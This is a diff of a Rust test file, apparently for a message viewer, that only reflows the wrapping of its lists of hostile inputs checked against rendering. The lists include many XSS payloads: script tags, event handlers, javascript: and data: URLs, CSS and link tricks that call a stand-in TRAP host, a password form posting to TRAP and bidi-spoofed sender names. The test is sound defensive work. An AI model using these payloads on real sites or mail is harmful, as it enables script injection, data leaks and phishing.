@@ -112,26 +112,71 @@ async fn a_hostile_message_neither_runs_nor_leaves_its_frame_nor_calls_home() {
 
 /// Each way by itself, so that one that breaks another cannot hide it.
 const BODIES: &[(&str, &str)] = &[
-    ("script", "<script>document.title='owned';fetch('http://TRAP/')</script><scr<script>ipt>top.document.title='owned'</script>"),
-    ("handlers", "<img src=x onerror=\"document.title='owned'\"><body onload=\"top.location='http://TRAP/'\"><input autofocus onfocus=alert(1)><details open ontoggle=alert(1)>"),
-    ("javascript: URLs", "<a href=\"javascript:top.document.title='owned'\" style='display:block;height:900px'>x</a><a href=' &#106;avascript:alert(1)'>x</a><a href='java\tscript:alert(1)'>x</a>"),
-    ("data: URLs", "<a href=\"data:text/html,<script>top.document.title='owned'</script>\" style='display:block;height:900px'>x</a><img src=\"data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='alert(1)'/>\"><iframe src='data:text/html,x'></iframe>"),
-    ("exfiltration by CSS", "<style>@import 'http://TRAP/i.css';@font-face{font-family:f;src:url(http://TRAP/f)}*{background:url(//TRAP/b);cursor:url(http://TRAP/c),auto;list-style-image:image-set('http://TRAP/l' 1x);content:url(http://TRAP/d)}a[href^=h]{background:url(http://TRAP/leak)}</style><li>x</li><a href=http://x.example>x</a>"),
-    ("meta refresh", "<meta http-equiv=refresh content='0;url=http://TRAP/'><meta http-equiv='set-cookie' content='lang=xx'>"),
-    ("base and links", "<base href=http://TRAP/><a href=rel style='display:block;height:900px'>x</a><link rel=stylesheet href=http://TRAP/a><link rel=dns-prefetch href=//TRAP><link rel=prefetch href=http://TRAP/p><link rel=icon href=http://TRAP/i>"),
-    ("forms", "<form action=http://TRAP/ method=post><input name=password><button style='width:100%;height:900px'>Log in</button></form><button form=keep formaction=http://TRAP/>x</button><isindex action=http://TRAP/>"),
-    ("huge tables", "<table width=99999 height=99999 border=1><tr><td width=99999 style='min-width:99999px'>wide</td></tr></table><div style='position:absolute;left:90000px;top:90000px'>far</div>"),
+    (
+        "script",
+        "<script>document.title='owned';fetch('http://TRAP/')</script><scr<script>ipt>top.document.title='owned'</script>",
+    ),
+    (
+        "handlers",
+        "<img src=x onerror=\"document.title='owned'\"><body onload=\"top.location='http://TRAP/'\"><input autofocus onfocus=alert(1)><details open ontoggle=alert(1)>",
+    ),
+    (
+        "javascript: URLs",
+        "<a href=\"javascript:top.document.title='owned'\" style='display:block;height:900px'>x</a><a href=' &#106;avascript:alert(1)'>x</a><a href='java\tscript:alert(1)'>x</a>",
+    ),
+    (
+        "data: URLs",
+        "<a href=\"data:text/html,<script>top.document.title='owned'</script>\" style='display:block;height:900px'>x</a><img src=\"data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='alert(1)'/>\"><iframe src='data:text/html,x'></iframe>",
+    ),
+    (
+        "exfiltration by CSS",
+        "<style>@import 'http://TRAP/i.css';@font-face{font-family:f;src:url(http://TRAP/f)}*{background:url(//TRAP/b);cursor:url(http://TRAP/c),auto;list-style-image:image-set('http://TRAP/l' 1x);content:url(http://TRAP/d)}a[href^=h]{background:url(http://TRAP/leak)}</style><li>x</li><a href=http://x.example>x</a>",
+    ),
+    (
+        "meta refresh",
+        "<meta http-equiv=refresh content='0;url=http://TRAP/'><meta http-equiv='set-cookie' content='lang=xx'>",
+    ),
+    (
+        "base and links",
+        "<base href=http://TRAP/><a href=rel style='display:block;height:900px'>x</a><link rel=stylesheet href=http://TRAP/a><link rel=dns-prefetch href=//TRAP><link rel=prefetch href=http://TRAP/p><link rel=icon href=http://TRAP/i>",
+    ),
+    (
+        "forms",
+        "<form action=http://TRAP/ method=post><input name=password><button style='width:100%;height:900px'>Log in</button></form><button form=keep formaction=http://TRAP/>x</button><isindex action=http://TRAP/>",
+    ),
+    (
+        "huge tables",
+        "<table width=99999 height=99999 border=1><tr><td width=99999 style='min-width:99999px'>wide</td></tr></table><div style='position:absolute;left:90000px;top:90000px'>far</div>",
+    ),
     ("deep tables", "TABLES"),
-    ("overlays", "<div style='position:fixed;inset:0;z-index:2147483647;background:red'>over</div><dialog open>modal</dialog><div popover=manual style='display:block;position:fixed;inset:0'>pop</div>"),
-    ("foreign elements", "<svg><a xlink:href='javascript:alert(1)'><text y=99>x</text></a><foreignObject><iframe srcdoc='<script>top.document.title=1</script>'></iframe></foreignObject><use href='http://TRAP/u.svg#a'/></svg><math><a xlink:href='javascript:alert(1)'>m</a></math>"),
-    ("plugins and frames", "<iframe src=http://TRAP/></iframe><object data=http://TRAP/></object><embed src=http://TRAP/><applet code=x></applet><frameset><frame src=http://TRAP/></frameset><portal src=http://TRAP/></portal>"),
-    ("media", "<video src=http://TRAP/v poster=http://TRAP/p autoplay></video><audio src=http://TRAP/a autoplay></audio><img srcset='http://TRAP/s 1x' lowsrc=http://TRAP/l dynsrc=http://TRAP/d><input type=image src=http://TRAP/i><body background=http://TRAP/b><picture><source srcset=http://TRAP/q><img></picture>"),
+    (
+        "overlays",
+        "<div style='position:fixed;inset:0;z-index:2147483647;background:red'>over</div><dialog open>modal</dialog><div popover=manual style='display:block;position:fixed;inset:0'>pop</div>",
+    ),
+    (
+        "foreign elements",
+        "<svg><a xlink:href='javascript:alert(1)'><text y=99>x</text></a><foreignObject><iframe srcdoc='<script>top.document.title=1</script>'></iframe></foreignObject><use href='http://TRAP/u.svg#a'/></svg><math><a xlink:href='javascript:alert(1)'>m</a></math>",
+    ),
+    (
+        "plugins and frames",
+        "<iframe src=http://TRAP/></iframe><object data=http://TRAP/></object><embed src=http://TRAP/><applet code=x></applet><frameset><frame src=http://TRAP/></frameset><portal src=http://TRAP/></portal>",
+    ),
+    (
+        "media",
+        "<video src=http://TRAP/v poster=http://TRAP/p autoplay></video><audio src=http://TRAP/a autoplay></audio><img srcset='http://TRAP/s 1x' lowsrc=http://TRAP/l dynsrc=http://TRAP/d><input type=image src=http://TRAP/i><body background=http://TRAP/b><picture><source srcset=http://TRAP/q><img></picture>",
+    ),
 ];
 
 /// What stands in fields of the header, where the page itself shows it.
 const FIELDS: &[(&str, &str)] = &[
-    ("markup everywhere", "Subject: </title><script>document.title='owned'</script>\r\nFrom: \"</bdi><img src=x onerror=alert(1)>\" <a@good.example>\r\nX-<img/src=x>: y"),
-    ("names that turn round", "Subject: \u{202e}gpj.exe\u{202c}\u{2066}\u{200f}\r\nFrom: \"\u{202e}moc.knab@ecivres\" <a@good.example>"),
+    (
+        "markup everywhere",
+        "Subject: </title><script>document.title='owned'</script>\r\nFrom: \"</bdi><img src=x onerror=alert(1)>\" <a@good.example>\r\nX-<img/src=x>: y",
+    ),
+    (
+        "names that turn round",
+        "Subject: \u{202e}gpj.exe\u{202c}\u{2066}\u{200f}\r\nFrom: \"\u{202e}moc.knab@ecivres\" <a@good.example>",
+    ),
     ("a subject of a megabyte", "Subject: MEGABYTE\r\nFrom: a@good.example"),
     ("a name of a megabyte", "Subject: x\r\nFrom: \"MEGABYTE\" <a@good.example>"),
     ("combining marks", "Subject: Z\u{0351}ALGO\r\nFrom: a@good.example"),
@@ -146,7 +191,9 @@ fn one_body(body: &str, trap: SocketAddr) -> Vec<u8> {
 }
 
 fn one_head(fields: &str) -> Vec<u8> {
-    let fields = fields.replace("MEGABYTE", &"x".repeat(1_000_000)).replace("Z\u{0351}", &format!("Z{}", "\u{0351}\u{036b}".repeat(500)));
+    let fields = fields
+        .replace("MEGABYTE", &"x".repeat(1_000_000))
+        .replace("Z\u{0351}", &format!("Z{}", "\u{0351}\u{036b}".repeat(500)));
     format!("{fields}\r\nMIME-Version: 1.0\r\nContent-Type: text/plain; charset=utf-8\r\n\r\nHi\r\n").into_bytes()
 }
 
@@ -163,7 +210,9 @@ async fn each_way_of_attack_leads_nowhere() {
         let shared = service.shared(&path).await;
         let octets = service.wire(&path).await.1;
         assert!(octets < 100_000, "{what}: {octets} octets over the wire");
-        for (width, part) in [(390, path.clone()), (1280, format!("{path}/message")), (390, format!("{path}/message")), (390, shared)] {
+        for (width, part) in
+            [(390, path.clone()), (1280, format!("{path}/message")), (390, format!("{path}/message")), (390, shared)]
+        {
             browser.width(width).await;
             let at = format!("{}{part}", service.url);
             browser.open(&at).await;
